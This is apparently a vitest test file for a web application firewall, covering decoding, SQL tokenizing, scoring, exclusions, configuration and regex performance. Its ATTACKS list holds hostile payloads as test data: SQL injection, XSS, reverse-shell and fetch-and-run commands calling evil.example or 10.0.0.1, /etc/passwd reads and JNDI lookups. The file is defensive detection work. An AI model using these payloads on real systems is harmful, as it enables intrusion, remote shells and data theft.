import { readFileSync } from 'node:fs';
import { gzipSync } from 'node:zlib';
import { Ajv } from 'ajv';
import { describe, expect, it } from 'vitest';
import { deepDecode, htmlDecode, jsDecode, maybeBase64, urlDecode, utf7Decode } from './decode.js';
import { createWaf, RULES, WAF_CONFIG_SCHEMA, type WafRequest } from './engine.js';
import { Prefilter } from './prefilter.js';
import { tokenize } from './sqli.js';

const manifest = JSON.parse(readFileSync(new URL('./bext-plugin.json', import.meta.url), 'utf8'));
const get = (query: string, headers: Record<string, string> = {}): WafRequest => ({ method: 'GET', path: '/search', query, headers: { host: 'example.com', 'user-agent': 'Mozilla/5.0', ...headers } });
const arg = (v: string) => get(`q=${encodeURIComponent(v)}`);

describe('decoders', () => {
  it('URL-decodes %XX, %uXXXX, overlong UTF-8 and form plus signs, leaving malformed escapes', () => {
    expect(urlDecode('a%20b%zz%u003c', false)).toBe('a b%zz<');
    expect(urlDecode('a+b', true)).toBe('a b');
    expect(urlDecode('%C0%AE%C0%AE%C0%AF')).toBe('../');
    expect(urlDecode('%E2%80%9D')).toBe('\u201d');
  });
  it('decodes HTML entities with or without semicolons and with leading zeros', () => {
    expect(htmlDecode('&lt;a&gt; &#0000000040; &#x28 &colon;&Tab;&amp;lpar;')).toBe('<a> ( ( :\t&lpar;');
    expect(htmlDecode('&unknown; & plain')).toBe('&unknown; & plain');
  });
  it('decodes JavaScript escapes but leaves Windows paths alone', () => {
    expect(jsDecode('\\u003cscript\\x3e\\u{61}')).toBe('<script>a');
    expect(jsDecode('C:\\new\\users')).toBe('C:\\new\\users');
  });
  it('repeats decoding until nothing changes, then folds Unicode look-alikes', () => {
    expect(deepDecode('%253Cscript%253E')).toBe('<script>');
    expect(deepDecode('javas%26%2399;ript')).toBe('javascript');
    expect(deepDecode('\uff1cscript\uff1e')).toBe('<script>');
    expect(deepDecode('java\u200bscript')).toBe('javascript');
    expect(deepDecode('\u560dset-cookie')).toBe('\rset-cookie');
  });
  it('reads base64 only when it decodes to text', () => {
    expect(maybeBase64(Buffer.from("' or 1=1 --").toString('base64'))).toBe("' or 1=1 --");
    expect(maybeBase64(Buffer.from('<script>x').toString('base64').replace(/=+$/, ''))).toBe('<script>x');
    expect(maybeBase64('3f2a9c0e8b7d4f1a')).toBeNull(); // hex id
    expect(maybeBase64('documentation')).toBeNull(); // one-case word
    expect(maybeBase64(Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 1, 2, 3]).toString('base64'))).toBeNull();
  });
  it('decodes UTF-7', () => {
    expect(utf7Decode('+ADw-foo+AD4-')).toBe('<foo>');
  });
});

describe('SQL tokenizer', () => {
  it('treats MySQL executable comments as code and words starting with digits as words', () => {
    const t = tokenize('1 /*!50000union*/ select 1st', null).map((k) => k.v);
    expect(t).toEqual(['1', 'union', 'select', '1st']);
  });
  it('starts inside a quoted string when asked', () => {
    const t = tokenize("abc' or 'a'='a", "'");
    expect(t[0]).toMatchObject({ v: 'abc', ctx: true });
    expect(t.map((k) => k.v).slice(1)).toEqual(['or', 'a', '=', 'a']);
  });
});

// Independent of the shared corpus: classic payloads per class, and inputs real users send.
const ATTACKS: Record<string, string[]> = {
  sqli: [
    '1 AND 1=1', "1' AND '1'='1", "admin'--", "admin' #", "' OR 1=1 LIMIT 1 -- -", '1; DROP TABLE users', '1 UNION ALL SELECT NULL,NULL,NULL--',
    "' AND SLEEP(5)--", "'; EXEC xp_cmdshell('dir')--", '-1 OR 1=1', "-1' UNION SELECT 1,@@version,3-- -", "' waitfor delay '0:0:5'--",
    '1) or pg_sleep(5)--', "') OR ('a'='a", '" or ""="', "1' AND extractvalue(1,concat(0x7e,(select user())))--", "' or ''='",
    '1;select pg_sleep(5)', '1 and (select count(*) from sysobjects)>0', "' union select load_file('/etc/passwd')--",
    '1 or benchmark(10000000,MD5(1))#', "1' || '1'='1", "x' AND 1=(SELECT COUNT(*) FROM tabname); --", '1 /*!50000UNION*/ SELECT 1',
    "1 into/**/outfile '/tmp/x'", "x' union/**/all/**/select 1", "1;/**/drop/**/table/**/users--", "2010-01-01'+sleep(20.to_i)+'",
  ],
  xss: [
    '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '<svg/onload=alert(1)>', '<body onload=alert(1)>', '<iframe src=javascript:alert(1)>',
    'javascript:alert(1)', '"><script>alert(document.cookie)</script>', '<a href="javascript:alert(1)">x</a>', '<details open ontoggle=alert(1)>',
    "'-alert(1)-'", '";alert(1);//', '<ScRiPt>alert(1)</sCrIpT>', '%3Cscript%3Ealert(1)%3C/script%3E', '&lt;script&gt;alert(1)&lt;/script&gt;',
    '<img src=1 onerror=prompt`1`>', '<input autofocus onfocus=alert(1)>', '<marquee onstart=alert(1)>',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">', '<svg><animate onbegin=alert(1) attributeName=x>',
    '" onmouseover="alert(1)', 'jav&#x09;ascript:alert(1)',
  ],
  rce: [
    '; id', '| whoami', '&& cat /etc/passwd', '`uname -a`', '$(wget http://evil.example/x.sh)', '; nc -e /bin/sh 10.0.0.1 4444', '| powershell -enc AAAA',
    '1; ping -c 3 127.0.0.1', '& dir c:\\', '; bash -i >& /dev/tcp/10.0.0.1/8080 0>&1', 'a;curl evil.example|sh', '$(id)', ';{cat,/etc/passwd}', '|| ls -la',
    '; /bin/cat /etc/shadow', '() { :; }; /bin/bash -c id',
  ],
  lfi: [
    '../../../../etc/passwd', '..%2f..%2f..%2fetc%2fpasswd', '....//....//etc/passwd', '/etc/shadow', 'C:\\Windows\\win.ini', '..\\..\\..\\boot.ini',
    'php://filter/convert.base64-encode/resource=index.php', 'file:///etc/hosts', '/proc/self/environ', '%252e%252e%252fetc%252fpasswd',
  ],
  other: [
    "<?php system($_GET['c']); ?>", '${jndi:ldap://evil.example/a}', '${${lower:j}ndi:ldap://x}', '{{7*7}}', '${7*7}', '<%= 7*7 %>',
    "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}", "__import__('os').system('id')", "require('child_process').exec('id')",
    'O:8:"stdClass":0:{}', 'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==', "#{T(java.lang.Runtime).getRuntime().exec('id')}",
    "%{(#_memberAccess['allowStaticMethodAccess']=true)}", '*)(uid=*))(|(uid=*', '%0d%0aSet-Cookie:x=1', 'http://10.0.0.1/shell.txt?',
    '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>', "'; return true; var x='", '<!--#exec cmd="ls" -->',
  ],
};
const BENIGN = [
  "O'Reilly Media", "Rock 'n' roll, baby", "I can't select all items from the list, please help", 'Tom & Jerry; a classic',
  'email me at john.doe@example.com or call +1 (555) 123-4567', '5 > 3 and 2 < 4', 'SELECT your plan from the options below',
  'Please update your profile; set your name', 'drop table reservations for 6 people', 'C:\\Program Files\\App', 'The <b>bold</b> text',
  'x = y + z', 'Call me at 10:30; thanks', "I love Python; it's great", 'ls -la output attached', 'Use curl to download the file',
  '{"name":"Ada","age":36}', 'https://example.com/search?q=shoes&size=42', 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk',
  'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U', 'Müller, Zoë, naïve café',
  'The function f(x) = x^2 + 1', '100% cotton, machine wash', 'AT&T and T-Mobile', 'Q&A session at 5pm', '_ga=GA1.2.1234567890.1700000000',
  'He said "hi" and left', "It's 5 o'clock", "Don't do this -- really", 'Price: $5 - $10', '#hashtag #blessed',
  "I'd like 2 or 3 more = 5 total", 'Meet at 5 or 6', "Python's os.system function", 'window.location is a property',
  'Where can I buy a cat?', 'echo chamber effects in social media', 'My sort order: name, then date', 'The union of two sets is a set',
  'select, insert and update are SQL verbs', 'Time: 12:00 (noon)', 'Size M/L', 'Order #12345 (express)', 'a-b=c', '[1, 2, 3]',
  'alert level: orange', 'confirm (by email) your booking', 'Type your message here...', '1 + 1 = 2', 'node --version prints v20',
  'Scripts are in the /scripts folder', "I'll be there at 5 o'clock; don't wait", 'path/to/file.txt', 'version 1.2.3-beta+build.5',
  'query Search($text: String!, $in: [ID!]) { search(text: $text) { id name } }', 'for=192.0.2.60;proto=http;by=203.0.113.43',
  '1b9d6bcd-bbfd-4b2d-9b5d-ab8dfbbd4bed', '00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01', '{"theme":"dark","lang":"fr"}',
  'Hello, I ordered item #4411 (blue, size 42) and it never arrived. Could you check? Thanks! -- Jane',
];

describe('detection by class (payloads not taken from the corpus)', () => {
  const waf = createWaf({ paranoia: 1 });
  for (const [cls, list] of Object.entries(ATTACKS)) {
    it(`blocks ${cls} at paranoia 1`, () => {
      const missed = list.filter((p) => !waf.inspect(arg(p)).blocked);
      expect(missed).toEqual([]);
    });
  }
  it('passes ordinary user input at paranoia 1', () => {
    const blocked = BENIGN.filter((v) => waf.inspect(arg(v)).blocked).map((v) => [v, waf.inspect(arg(v)).matches.map((m) => m.ruleId)]);
    expect(blocked).toEqual([]);
  });
  it('finds payloads in every location: path, query, form, JSON, multipart, XML, header, cookie, user agent, base64', () => {
    const p = "' union select password from users--";
    const b64 = Buffer.from(p).toString('base64');
    const post = (contentType: string, body: string | Uint8Array, headers: Record<string, string> = {}): WafRequest => ({ method: 'POST', path: '/', headers: { host: 'h', 'content-type': contentType, ...headers }, body });
    const cases: [string, WafRequest][] = [
      ['path', { method: 'GET', path: `/items/${encodeURIComponent(p)}`, headers: { host: 'h' } }],
      ['query', get(`id=${encodeURIComponent(p)}`)],
      ['query name', get(`${encodeURIComponent(p)}=1`)],
      ['form', post('application/x-www-form-urlencoded', `a=1&b=${encodeURIComponent(p)}`)],
      ['json', post('application/json', JSON.stringify({ a: { b: [1, p] } }))],
      ['multipart', post('multipart/form-data; boundary=XyZ', `--XyZ\r\nContent-Disposition: form-data; name="f"\r\n\r\n${p}\r\n--XyZ--\r\n`)],
      ['xml', post('application/xml', `<?xml version="1.0"?><r><q>${p.replace(/'/g, '&apos;')}</q></r>`)],
      ['gzip json', post('application/json', gzipSync(JSON.stringify({ a: p })), { 'content-encoding': 'gzip' })],
      ['header', get('', { 'x-forwarded-user': p })],
      ['cookie', get('', { cookie: `sid=abc; pref=${encodeURIComponent(p)}` })],
      ['base64 cookie', get('', { cookie: `data=${b64}` })],
      ['base64 arg', get(`d=${encodeURIComponent(b64)}`)],
      ['user agent', get('', { 'user-agent': `Mozilla/5.0 ${p}` })],
    ];
    for (const [where, req] of cases) expect({ where, blocked: waf.inspect(req).blocked }).toEqual({ where, blocked: true });
  });
  it('flags scanners, bad methods and smuggling signs', () => {
    expect(waf.inspect(get('', { 'user-agent': 'sqlmap/1.7.4#stable (https://sqlmap.org)' })).matches[0]?.ruleId).toBe(1101);
    expect(waf.inspect({ ...get(''), method: 'TRACK' }).blocked).toBe(true);
    expect(waf.inspect(get('', { 'transfer-encoding': 'chunked', 'content-length': '4' })).blocked).toBe(true);
  });
});

describe('scoring, modes, levels and exclusions', () => {
  const sqli = get(`id=${encodeURIComponent("1' or '1'='1")}`);
  it('adds each rule once and compares with the level threshold', () => {
    const r = createWaf().inspect(sqli);
    expect(r.score).toBe(r.matches.reduce((a, m) => a + ({ critical: 5, error: 4, warning: 3, notice: 2 })[m.severity], 0));
    expect(new Set(r.matches.map((m) => m.ruleId)).size).toBe(r.matches.length);
    expect(r.attack).toBe(true);
    const lenient = createWaf({ thresholds: { '1': 1000, '2': 5, '3': 5, '4': 5 } }).inspect(sqli);
    expect(lenient).toMatchObject({ attack: false, blocked: false, score: r.score });
  });
  it('detect mode scores but never blocks', () => {
    expect(createWaf({ mode: 'detect' }).inspect(sqli)).toMatchObject({ attack: true, blocked: false });
  });
  it('higher paranoia levels run more rules', () => {
    const text = arg('union was a great select');
    expect(createWaf({ paranoia: 1 }).inspect(text).score).toBe(0);
    expect(createWaf({ paranoia: 2 }).inspect(text).blocked).toBe(true);
    const counts = [1, 2, 3, 4].map((pl) => RULES.filter((r) => r.paranoia <= pl).length);
    expect(counts).toEqual([...counts].sort((a, b) => a - b));
  });
  it('exclusions skip rules by id or family, per path and per parameter', () => {
    const req = { ...get(`q=${encodeURIComponent('<script>alert(1)</script>')}&other=1`), path: '/cms/edit' };
    expect(createWaf({ exclusions: [{ paths: ['/cms/**'], rules: ['xss'] }] }).inspect(req).blocked).toBe(false);
    expect(createWaf({ exclusions: [{ paths: ['/cms/**'], params: ['q'] }] }).inspect(req).blocked).toBe(false);
    expect(createWaf({ exclusions: [{ paths: ['/cms/**'], params: ['other'] }] }).inspect(req).blocked).toBe(true);
    expect(createWaf({ exclusions: [{ paths: ['/blog/**'] }] }).inspect(req).blocked).toBe(true);
    expect(createWaf({ exclusions: [{ paths: ['/cms/*'] }] }).inspect(req)).toMatchObject({ score: 0, matches: [] });
    expect(createWaf({ exclusions: [{ paths: ['/cms/**'], rules: [2001, 2006], params: ['q'] }] }).inspect(req).matches.map((m) => m.ruleId)).not.toContain(2001);
  });
  it('flags bodies beyond maxBodyBytes and inspects their beginning', () => {
    const waf = createWaf({ maxBodyBytes: 64 });
    const r = waf.inspect({ method: 'POST', path: '/', headers: { host: 'h', 'content-type': 'text/plain' }, body: 'x'.repeat(100) });
    expect(r.matches.map((m) => m.ruleId)).toEqual([1011]);
    expect(waf.inspect({ method: 'POST', path: '/', headers: { host: 'h' }, bodyLength: 10_000 }).blocked).toBe(true);
  });
  it('stops after maxArgs values and says so', () => {
    const q = Array.from({ length: 50 }, (_, i) => `a${i}=1`).join('&');
    expect(createWaf({ maxArgs: 10 }).inspect(get(q)).matches.map((m) => m.ruleId)).toEqual([1013]);
  });
});

describe('configuration', () => {
  it('the manifest carries the engine schema, and it rejects unknown keys and bad values', () => {
    expect(manifest.configSchema).toEqual(JSON.parse(JSON.stringify(WAF_CONFIG_SCHEMA)));
    const v = new Ajv({ useDefaults: true, strict: false }).compile(manifest.configSchema);
    const ok: Record<string, unknown> = {};
    expect(v(ok)).toBe(true);
    expect(ok).toMatchObject({ paranoia: 1, mode: 'block', maxBodyBytes: 1048576, thresholds: { '1': 5 } });
    expect(v({ paranoia: 5 })).toBe(false);
    expect(v({ mode: 'log' })).toBe(false);
    expect(v({ blockAll: true })).toBe(false);
    expect(v({ exclusions: [{ paths: ['/x'], rules: ['nope'] }] })).toBe(false);
    expect(v({ exclusions: [{ paths: ['/x'], rules: [2001, 'xss'], params: ['q'] }] })).toBe(true);
  });
  it('createWaf refuses unknown options and rules that do not exist', () => {
    expect(() => createWaf({ nope: 1 } as never)).toThrow(/unknown option "nope"/);
    expect(() => createWaf({ exclusions: [{ paths: ['/'], rules: [999999] }] })).toThrow(/does not exist/);
  });
  it('every rule has a unique id, a message and a way to match', () => {
    expect(new Set(RULES.map((r) => r.id)).size).toBe(RULES.length);
    for (const r of RULES) expect(r.msg && (r.engine || r.pattern || r.sql || r.charCount), `rule ${r.id}`).toBeTruthy();
  });
});

describe('the pre-filter never changes a verdict', () => {
  const corpus = readFileSync('/work/shared/corpus/waf/gotestwaf_cases.jsonl', 'utf8').trim().split('\n').map((l) => JSON.parse(l) as { uri: string; method: string; headers: Record<string, string>; body: string | null });
  const values = [...BENIGN, ...Object.values(ATTACKS).flat()];
  // Values built from rule literals in plain text, where only the gates can let them through.
  for (const r of RULES) for (const p of r.pre) values.push(`${p} /etc/passwd`, `x ${p} y`, `${p}`, `1 ${p} 2 like 3`);
  const reqs: WafRequest[] = [
    ...values.map(arg),
    ...values.map((v) => get('', { 'x-data': v })),
    ...corpus.map((c) => {
      const q = c.uri.indexOf('?');
      const headers: Record<string, string> = {};
      for (const [k, v] of Object.entries(c.headers)) headers[k.toLowerCase()] = v;
      return { method: c.method, path: q === -1 ? c.uri : c.uri.slice(0, q), query: q === -1 ? '' : c.uri.slice(q + 1), headers, body: c.body ?? undefined };
    }),
  ];
  for (const pl of [1, 2, 3, 4] as const) {
    it(`paranoia ${pl}: same matches with and without it`, () => {
      const fast = createWaf({ paranoia: pl });
      const full = createWaf({ paranoia: pl }, { prefilter: false });
      const diff = reqs.filter((r) => JSON.stringify(fast.inspect(r).matches) !== JSON.stringify(full.inspect(r).matches));
      expect(diff.map((r) => [r.query, r.headers['x-data']])).toEqual([]);
    });
  }
  it('the automaton finds literals, confirms, and first words', () => {
    const p = new Prefilter(['union', { lit: 'like', confirm: /\d like/ }, { first: ['cat'] }]);
    expect(p.needs('the UNION jack')).toBe(true);
    expect(p.needs('I would like it')).toBe(false);
    expect(p.needs('5 like 6')).toBe(true);
    expect(p.needs('cat /x')).toBe(true);
    expect(p.needs('cat')).toBe(false);
    expect(p.needs('a..b')).toBe(true);
    expect(p.needs('100%')).toBe(true);
    expect(p.needs('plain words only')).toBe(false);
  });
});

describe('linear time: every rule against pathological input under a deadline', () => {
  const SIZE = 64 * 1024;
  const fill = (unit: string) => unit.repeat(Math.ceil(SIZE / unit.length)).slice(0, SIZE);
  const GENERIC = ['<', '>', '"', "'", '`', ';', '|', '&', '$', '(', ')', '{', '}', '[', ']', '=', ':', '/', '\\', '.', '-', '_', '*', '#', '@', '!', '%', '?', ',', '+', '~', '^', ' ', '\n', '\t', 'a', '0', 'on', '<a ', '<a on', "'or ", '/*', '--', '${', '{{', '(&(', 'a.', '%25', '&#', '\\u'];
  const DEADLINE_MS = 250;

  function inputsFor(src: string, pre: readonly string[]): string[] {
    const chars = new Set(GENERIC);
    for (const ch of src.replace(/\\[sSdDwWbB]/g, '')) if (/[^\w\s]/.test(ch)) chars.add(ch);
    for (const w of src.match(/[a-z_]{2,}/g) ?? []) chars.add(`${w} `), chars.add(`${w}(`), chars.add(`<${w} `);
    for (const p of pre) chars.add(p), chars.add(`${p} `), chars.add(`${p}a`);
    return [...chars].map(fill);
  }

  for (const rule of RULES.filter((r) => r.pattern)) {
    it(`rule ${rule.id} (${rule.family})`, () => {
      let worst = 0;
      let worstInput = '';
      for (const input of inputsFor(rule.pattern!.source, rule.pre)) {
        // Best of three: the machine is shared, and a catastrophic pattern is slow every time.
        let ms = Infinity;
        for (let k = 0; k < 3 && ms > DEADLINE_MS / 5; k++) {
          const t0 = performance.now();
          rule.pattern!.exec(input);
          ms = Math.min(ms, performance.now() - t0);
        }
        if (ms > worst) (worst = ms), (worstInput = input.slice(0, 12));
      }
      expect({ rule: rule.id, slow: worst > DEADLINE_MS ? `${worst.toFixed(0)} ms on ${JSON.stringify(worstInput)}…` : 'ok' }).toEqual({ rule: rule.id, slow: 'ok' });
    });
  }

  it('the whole engine, every level, on 64 KB pathological values in every location', () => {
    const units = ['<a on', "1' or '", '%25%25', '&#&#', '\\u\\u', '${{', '(|(a=', "'/*", 'select ', 'union ', ';ls ', '../', 'a'.repeat(8)];
    for (const pl of [1, 4] as const) {
      const waf = createWaf({ paranoia: pl, maxBodyBytes: 1 << 20 });
      for (const u of units) {
        const v = fill(u);
        for (const req of [
          arg(v),
          { method: 'POST', path: '/', headers: { host: 'h', 'content-type': 'application/json' }, body: JSON.stringify({ v }) },
          { method: 'POST', path: '/', headers: { host: 'h', 'content-type': 'text/plain' }, body: v },
          get('', { cookie: `a=${v}` }),
        ] as WafRequest[]) {
          const t0 = performance.now();
          waf.inspect(req);
          const ms = performance.now() - t0;
          expect({ unit: u, pl, ms: ms < 2000 ? 'ok' : ms }).toEqual({ unit: u, pl, ms: 'ok' });
        }
      }
    }
  });
});
